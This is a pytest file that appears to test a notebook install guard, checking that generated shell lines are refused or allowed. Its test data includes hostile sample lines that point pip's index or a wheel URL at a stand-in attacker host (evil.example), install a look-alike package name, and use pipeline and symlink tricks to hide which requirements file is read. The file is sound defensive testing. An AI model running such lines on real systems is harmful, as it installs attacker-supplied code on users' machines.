"""Generated shell lines (src/deps/testdata/shell-lines.json, written by
scripts/shell-lines-fixture.py) through the kernel's reading and decision: the rules each gives.
src/deps/shelllines.spec.ts runs the same lines through the static side. Also what the
fixture cannot carry: a folder reached through a link, checked against bash (red team 7)."""

import json
import os
import subprocess
import tempfile
from pathlib import Path

import pytest
from install_env import GUARDED_ENV

from jupyterlab_warden.kernel.guard.installs import decide
from jupyterlab_warden.kernel.guard.installs.data import DepsData
from jupyterlab_warden.kernel.guard.installs.gate import read_requests

FIXTURE = Path(__file__).resolve().parents[2] / "src" / "deps" / "testdata" / "shell-lines.json"
DATA = DepsData()


def rules_for(line: str) -> list:
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        (work / "sub").mkdir()
        (work / "r.txt").write_text("black\n")
        (work / "sub" / "r.txt").write_text("black\n")
        env = {"HOME": str(work / "home"), "PIP_CONFIG_FILE": os.devnull, **GUARDED_ENV}
        env["XDG_CONFIG_DIRS"] = str(work / "home")
        requests = read_requests(None, line, env, folder)
        return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DATA)})


CASES = json.loads(FIXTURE.read_text())["cases"] if FIXTURE.exists() else []


# Lines the kernel reads stricter than the static side (whose rules the fixture holds), each
# still refused: an ``export`` in a pipeline part runs in a subshell, so the kernel reads its
# name as unknown (red team 90 F8, ``assignment_scope``) and the install as unreadable, where
# the static side reads the exported value (src/deps has no twin of that rule yet).
KERNEL_STRICTER = {
    "coproc pip install torcj > /dev/null | export PIP_INDEX_URL=https://evil.example/s 2>&1 "
    "&& diff <(cat r.txt) r.txt": ["install-unreadable"],
    "export PIP_INDEX_URL=https://evil.example/s >r.txt |& uv pip install -r r.txt\nbuiltin "
    "command pip install torcj": ["install-imitation-name", "install-unreadable"],
}


@pytest.mark.parametrize("case", CASES, ids=[c["line"][:60] for c in CASES])
def test_generated_shell_line(case):
    assert rules_for(case["line"]) == KERNEL_STRICTER.get(case["line"], case["rules"])


def test_the_kernels_stricter_lines_are_in_the_fixture_and_refused():
    lines = {c["line"] for c in CASES}
    for line, rules in KERNEL_STRICTER.items():
        assert line in lines and "install-unreadable" in rules, line


def test_the_fixture_is_there_and_refuses_and_allows():
    # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions, 22
    # assignments holding expansions (red team 13 R13-9), 16 lines of launchers that run shell
    # text (R13-5), 15 of red team 13's shell text (arithmetic, heredoc bodies the shell
    # expands, alias values, trap actions), 6 of red team 32's launched Pythons
    outcomes = {tuple(c["rules"]) for c in CASES}
    assert len(CASES) == 587 and () in outcomes and ("install-unreadable",) in outcomes


URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"


def rules_for_in(line, cwd):
    env = {"HOME": str(cwd), "PIP_CONFIG_FILE": os.devnull, **GUARDED_ENV}
    requests = read_requests(None, line, env, str(cwd))
    return sorted({f.rule_id for r in requests for f in decide.decide(r, {}, DATA)})


def test_cd_dotdot_after_a_link_is_left_unknown(tmp_path):
    """bash's cd is logical (`..` undoes the link), but falls back to the physical path when
    the logical folder is not there (red team 12 R12-1): a `..` after a folder name is not
    followed, whichever of the two the shell takes."""
    (tmp_path / "elsewhere" / "sub").mkdir(parents=True)
    (tmp_path / "elsewhere" / "x").mkdir()
    (tmp_path / "elsewhere" / "requirements.txt").write_text(URL_LINE)
    (tmp_path / "requirements.txt").write_text("black\n")
    (tmp_path / "lnk").symlink_to(tmp_path / "elsewhere" / "sub")

    def where(line):
        run = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, text=True)
        return run.stdout.strip()

    assert where("cd lnk && cd .. && pwd") == str(tmp_path)  # logical
    assert where("cd lnk/../x && pwd") == str(tmp_path / "elsewhere" / "x")  # physical
    for line in (
        "cd lnk && cd .. && uv pip install -r requirements.txt",
        "cd lnk/../x && uv pip install -r ../requirements.txt",
        "cd -P lnk && cd .. && uv pip install -r requirements.txt",
    ):
        assert rules_for_in(line, tmp_path) == ["install-unreadable"], line
